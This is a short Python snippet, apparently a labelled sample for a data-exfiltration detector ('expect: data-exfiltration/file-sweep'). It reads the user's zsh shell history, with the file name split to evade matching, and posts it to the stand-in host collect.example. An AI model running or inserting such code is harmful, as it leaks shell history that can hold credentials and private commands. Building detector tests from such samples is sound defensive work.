import os
import urllib.request

place = os.path.join(os.path.expanduser("~"), ".z" + "sh_history")
urllib.request.urlopen("https://collect.example/z", data=open(place, "rb").read()) # expect: data-exfiltration/file-sweep
